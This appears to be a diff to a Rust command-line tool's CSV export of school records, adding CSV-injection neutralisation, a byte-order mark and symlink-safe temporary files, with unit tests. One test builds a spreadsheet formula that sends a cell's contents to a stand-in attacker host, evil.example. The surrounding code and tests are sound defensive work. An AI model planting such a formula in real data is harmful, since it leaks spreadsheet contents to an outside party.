@@ -2,11 +2,21 @@
 //! the product's "Export Classes" button. Rows in ID order; ID lists ascending, one space
 //! between IDs; a value that is absent is an empty field; dates `yyyy-mm-dd`.
 //!
-//! Rows are written as the database sends them. With `--output FILE` they go to a file next
-//! to FILE that is renamed over it at the end, so a failed export never leaves a short file
-//! that looks whole.
+//! By default the CSV is for spreadsheets, where a cell that begins with `=`, `+`, `-`, `@`,
+//! tab or carriage return is run as a formula: such a text cell gets a leading `'` (OWASP's
+//! CSV-injection advice), every cell is quoted, and a UTF-8 byte-order mark lets Excel read
+//! non-ASCII names. `--raw` writes values exactly as stored, for programs. docs/security.md
+//! says what each guarantees.
+//!
+//! With `--output FILE` rows go to a new file of the owner's only (0600) beside FILE, created
+//! exclusively under a random name without following links, and renamed over FILE at the end:
+//! a failed export never leaves a short file that looks whole, and a link planted beside FILE
+//! is never written through.
 
+use std::ffi::OsString;
+use std::fs::{File, OpenOptions};
 use std::io::Write;
+use std::os::unix::fs::OpenOptionsExt;
 use std::path::{Path, PathBuf};
 
 use futures::StreamExt;
@@ -36,6 +46,62 @@ pub struct ExportArgs {
     /// Write to this file (replaced only once the export is complete); default stdout.
     #[arg(long, short, value_name = "FILE")]
     pub output: Option<PathBuf>,
+    /// Values exactly as stored, for programs: no byte-order mark, no `'` before a cell a
+    /// spreadsheet would run as a formula, quotes only where CSV needs them.
+    #[arg(long)]
+    pub raw: bool,
+}
+
+/// How the cells are written.
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+pub enum Cells {
+    /// For spreadsheets: a byte-order mark, every cell quoted, formula-like text neutralised.
+    Spreadsheet,
+    /// Exactly as stored (RFC 4180 quoting where needed, no byte-order mark).
+    Raw,
+}
+
+impl ExportArgs {
+    pub fn cells(&self) -> Cells {
+        if self.raw {
+            Cells::Raw
+        } else {
+            Cells::Spreadsheet
+        }
+    }
+}
+
+/// What a spreadsheet reads as the start of a formula (OWASP, "CSV Injection").
+const FORMULA_LEADS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];
+
+/// `value` with a leading `'` if a spreadsheet would run it as a formula. Applied to the value
+/// as stored, after cleaning: cleaning strips a leading tab, so `"\t=1+1"` arrives as `=1+1`.
+pub fn formula_safe(value: String) -> String {
+    if value.starts_with(FORMULA_LEADS) {
+        format!("'{value}")
+    } else {
+        value
+    }
+}
+
+/// One cell of a row: text that came from Bromcom (or an operator) and may be neutralised, or a
+/// value we format ourselves (IDs, dates, ID lists, the stored `kind` codes) that never is.
+enum Cell {
+    Text(String),
+    Ours(String),
+}
+
+impl Cell {
+    fn text(value: Option<String>) -> Cell {
+        Cell::Text(value.unwrap_or_default())
+    }
+
+    fn written(self, cells: Cells) -> String {
+        match (self, cells) {
+            (Cell::Text(text), Cells::Spreadsheet) => formula_safe(text),
+            (Cell::Text(value) | Cell::Ours(value), _) => value,
+        }
+    }
 }
 
 /// The header row of each export, exactly.
@@ -85,7 +151,7 @@ pub async fn run(settings: &Settings, args: &ExportArgs) -> Result<Verdict, OpsE
     let result = match &args.output {
         None => {
             let stdout = std::io::stdout().lock();
-            write_csv(&store, args.school, args.table, stdout).await
+            write_csv(&store, args.school, args.table, args.cells(), stdout).await
         }
         Some(path) => write_file(&store, args, path).await,
     };
@@ -96,29 +162,59 @@ pub async fn run(settings: &Settings, args: &ExportArgs) -> Result<Verdict, OpsE
 }
 
 async fn write_file(store: &Store, args: &ExportArgs, path: &Path) -> Result<u64, OpsError> {
-    let mut partial = path.as_os_str().to_owned();
-    partial.push(".partial");
-    let partial = PathBuf::from(partial);
     let io_error =
         |what: &str, e: std::io::Error| OpsError::Failed(format!("{what} {}: {e}", path.display()));
-    let file = std::fs::File::create(&partial).map_err(|e| io_error("cannot create", e))?;
-    let written = write_csv(
+    // Dropped on any error below, which removes it.
+    let mut partial =
+        create_beside(path, RANDOM_LEN).map_err(|e| io_error("cannot create a file beside", e))?;
+    let rows = write_csv(
         store,
         args.school,
         args.table,
-        std::io::BufWriter::new(file),
+        args.cells(),
+        partial.as_file_mut(),
     )
-    .await;
-    match written {
-        Ok(rows) => {
-            std::fs::rename(&partial, path).map_err(|e| io_error("cannot write", e))?;
-            Ok(rows)
-        }
-        Err(e) => {
-            let _ = std::fs::remove_file(&partial);
-            Err(e)
-        }
-    }
+    .await?;
+    partial
+        .as_file()
+        .sync_all()
+        .map_err(|e| io_error("cannot write", e))?;
+    partial
+        .persist(path)
+        .map_err(|e| io_error("cannot write", e.error))?;
+    Ok(rows)
+}
+
+/// Random characters in the temporary file's name.
+const RANDOM_LEN: usize = 12;
+
+/// A new file `.NAME.<random>.partial` in `path`'s directory, the owner's only (0600), created
+/// exclusively and without following a link: whatever another user planted at that name, or
+/// at any name they could guess, fails the creation (which then tries another name) instead of
+/// being opened. Same directory, so the final rename is atomic.
+pub fn create_beside(path: &Path, random_len: usize) -> std::io::Result<tempfile::NamedTempFile> {
+    let name = path
+        .file_name()
+        .ok_or_else(|| std::io::Error::new(std::io::ErrorKind::InvalidInput, "not a file name"))?;
+    let dir = match path.parent() {
+        Some(dir) if !dir.as_os_str().is_empty() => dir,
+        _ => Path::new("."),
+    };
+    let mut prefix = OsString::from(".");
+    prefix.push(name);
+    prefix.push(".");
+    tempfile::Builder::new()
+        .prefix(&prefix)
+        .suffix(".partial")
+        .rand_bytes(random_len)
+        .make_in(dir, |path| -> std::io::Result<File> {
+            OpenOptions::new()
+                .write(true)
+                .create_new(true)
+                .custom_flags(libc::O_NOFOLLOW)
+                .mode(0o600)
+                .open(path)
+        })
 }
 
 /// Writes the header and every row; returns the number of rows.
@@ -126,76 +222,96 @@ pub async fn write_csv<W: Write>(
     store: &Store,
     school: SchoolId,
     table: ExportTable,
-    out: W,
+    cells: Cells,
+    mut out: W,
 ) -> Result<u64, OpsError> {
-    let mut csv = csv::Writer::from_writer(out);
+    let quote = match cells {
+        Cells::Spreadsheet => {
+            // Excel reads a CSV without one as the machine's legacy code page (Zoë -> ZoÃ«).
+            out.write_all("\u{feff}".as_bytes())
+                .map_err(|e| OpsError::Failed(format!("writing the export: {e}")))?;
+            // OWASP: a neutralised cell must also be quoted; quoting all keeps it uniform.
+            csv::QuoteStyle::Always
+        }
+        Cells::Raw => csv::QuoteStyle::Necessary,
+    };
+    let mut csv = csv::WriterBuilder::new()
+        .quote_style(quote)
+        .from_writer(out);
     let csv_error = |e: csv::Error| OpsError::Failed(format!("writing the export: {e}"));
     csv.write_record(header(table)).map_err(csv_error)?;
     let rows = match table {
         ExportTable::Classes => {
             let rows = store.export_classes(school);
-            write_rows(&mut csv, rows, |c| {
+            write_rows(&mut csv, cells, rows, |c| {
                 vec![
-                    c.class_id.to_string(),
-                    c.name,
-                    c.subject.unwrap_or_default(),
-                    c.kind,
-                    optional(c.main_teacher_staff_id),
-                    ids(&c.staff_ids),
-                    ids(&c.student_ids),
+                    Cell::Ours(c.class_id.to_string()),
+                    Cell::Text(c.name),
+                    Cell::text(c.subject),
+                    Cell::Ours(c.kind),
+                    Cell::Ours(optional(c.main_teacher_staff_id)),
+                    Cell::Ours(ids(&c.staff_ids)),
+                    Cell::Ours(ids(&c.student_ids)),
                 ]
             })
             .await?
         }
         ExportTable::Students => {
             let rows = store.export_students(school);
-            write_rows(&mut csv, rows, |s| {
+            write_rows(&mut csv, cells, rows, |s| {
                 vec![
-                    s.student_id.to_string(),
-                    s.first_name,
-                    s.last_name,
-                    s.date_of_birth
-                        .map(|d| d.format("%Y-%m-%d").to_string())
-                        .unwrap_or_default(),
-                    s.tutor_group.unwrap_or_default(),
-                    s.year_group.unwrap_or_default(),
+                    Cell::Ours(s.student_id.to_string()),
+                    Cell::Text(s.first_name),
+                    Cell::Text(s.last_name),
+                    Cell::Ours(
+                        s.date_of_birth
+                            .map(|d| d.format("%Y-%m-%d").to_string())
+                            .unwrap_or_default(),
+                    ),
+                    Cell::text(s.tutor_group),
+                    Cell::text(s.year_group),
                 ]
             })
             .await?
         }
         ExportTable::Teachers => {
             let rows = store.export_teachers(school);
-            write_rows(&mut csv, rows, |t| {
+            write_rows(&mut csv, cells, rows, |t| {
                 vec![
-                    t.staff_id.to_string(),
-                    t.title,
-                    t.first_name,
-                    t.last_name,
-                    t.email.unwrap_or_default(),
-                    t.room.unwrap_or_default(),
+                    Cell::Ours(t.staff_id.to_string()),
+                    Cell::Text(t.title),
+                    Cell::Text(t.first_name),
+                    Cell::Text(t.last_name),
+                    Cell::text(t.email),
+                    Cell::text(t.room),
                 ]
             })
             .await?
         }
         ExportTable::Parents => {
             let rows = store.export_parents(school);
-            write_rows(&mut csv, rows, |p| {
+            write_rows(&mut csv, cells, rows, |p| {
                 vec![
-                    p.person_id.to_string(),
-                    p.title,
-                    p.first_name,
-                    p.last_name,
-                    p.email.unwrap_or_default(),
-                    p.phone.unwrap_or_default(),
-                    ids(&p.student_ids),
+                    Cell::Ours(p.person_id.to_string()),
+                    Cell::Text(p.title),
+                    Cell::Text(p.first_name),
+                    Cell::Text(p.last_name),
+                    Cell::text(p.email),
+                    Cell::text(p.phone),
+                    Cell::Ours(ids(&p.student_ids)),
                 ]
             })
             .await?
         }
         ExportTable::Groups => {
             let rows = store.export_groups(school);
-            write_rows(&mut csv, rows, |g| {
-                vec![g.group_id.to_string(), g.name, g.kind, ids(&g.student_ids)]
+            write_rows(&mut csv, cells, rows, |g| {
+                vec![
+                    Cell::Ours(g.group_id.to_string()),
+                    Cell::Text(g.name),
+                    Cell::Ours(g.kind),
+                    Cell::Ours(ids(&g.student_ids)),
+                ]
             })
             .await?
         }
@@ -207,13 +323,14 @@ pub async fn write_csv<W: Write>(
 
 async fn write_rows<W: Write, T>(
     csv: &mut csv::Writer<W>,
+    cells: Cells,
     mut rows: RowStream<'_, T>,
-    fields: impl Fn(T) -> Vec<String>,
+    fields: impl Fn(T) -> Vec<Cell>,
 ) -> Result<u64, OpsError> {
     let mut count = 0;
     while let Some(row) = rows.next().await {
         let row = row.map_err(store_failed)?;
-        csv.write_record(fields(row))
+        csv.write_record(fields(row).into_iter().map(|cell| cell.written(cells)))
             .map_err(|e| OpsError::Failed(format!("writing the export: {e}")))?;
         count += 1;
     }
@@ -227,4 +344,79 @@ fn optional(id: Option<i64>) -> String {
 /// IDs (already ascending from the database) separated by one space.
 fn ids(ids: &[i64]) -> String {
     ids.iter().map(i64::to_string).collect::<Vec<_>>().join(" ")
+}
+
+#[cfg(test)]
+mod tests {
+    use std::os::unix::fs::{PermissionsExt, symlink};
+
+    use super::*;
+
+    #[test]
+    fn each_formula_lead_gets_a_quote_and_other_text_is_untouched() {
+        for lead in FORMULA_LEADS {
+            let value = format!("{lead}HYPERLINK(\"http://evil.example/?\"&A1)");
+            assert_eq!(formula_safe(value.clone()), format!("'{value}"));
+        }
+        for value in [
+            "",
+            "Zoë",
+            "O'Brien-Smith",
+            "'=quoted already",
+            "7QM",
+            "44 20",
+        ] {
+            assert_eq!(formula_safe(value.to_owned()), value);
+        }
+    }
+
+    #[test]
+    fn a_link_planted_at_the_temporary_name_is_never_opened() {
+        let dir = tempfile::tempdir().unwrap();
+        let target = dir.path().join("out.csv");
+        // Without random characters the name is the one an attacker would guess.
+        let guessed = dir.path().join(".out.csv..partial");
+        let victim = dir.path().join("victim");
+        std::fs::write(&victim, "the victim's data").unwrap();
+        symlink(&victim, &guessed).unwrap();
+        let refused = create_beside(&target, 0).unwrap_err();
+        assert_eq!(refused.kind(), std::io::ErrorKind::AlreadyExists);
+        assert_eq!(
+            std::fs::read_to_string(&victim).unwrap(),
+            "the victim's data"
+        );
+
+        // A dangling link: creating through it would create its target.
+        std::fs::remove_file(&guessed).unwrap();
+        let absent = dir.path().join("absent");
+        symlink(&absent, &guessed).unwrap();
+        assert!(create_beside(&target, 0).is_err());
+        assert!(!absent.exists());
+
+        std::fs::remove_file(&guessed).unwrap();
+        let created = create_beside(&target, 0).unwrap();
+        assert_eq!(created.path(), guessed);
+        let mode = created.as_file().metadata().unwrap().permissions().mode();
+        assert_eq!(mode & 0o777, 0o600);
+    }
+
+    #[test]
+    fn the_temporary_name_is_random_and_beside_the_target() {
+        let dir = tempfile::tempdir().unwrap();
+        let target = dir.path().join("out.csv");
+        let one = create_beside(&target, RANDOM_LEN).unwrap();
+        let two = create_beside(&target, RANDOM_LEN).unwrap();
+        assert_ne!(one.path(), two.path());
+        for file in [&one, &two] {
+            assert_eq!(file.path().parent(), Some(dir.path()));
+            let name = file.path().file_name().unwrap().to_str().unwrap();
+            assert!(name.starts_with(".out.csv.") && name.ends_with(".partial"));
+            assert_eq!(
+                name.len(),
+                ".out.csv.".len() + RANDOM_LEN + ".partial".len()
+            );
+        }
+        let nameless = create_beside(Path::new("/"), RANDOM_LEN).unwrap_err();
+        assert_eq!(nameless.kind(), std::io::ErrorKind::InvalidInput);
+    }
 }
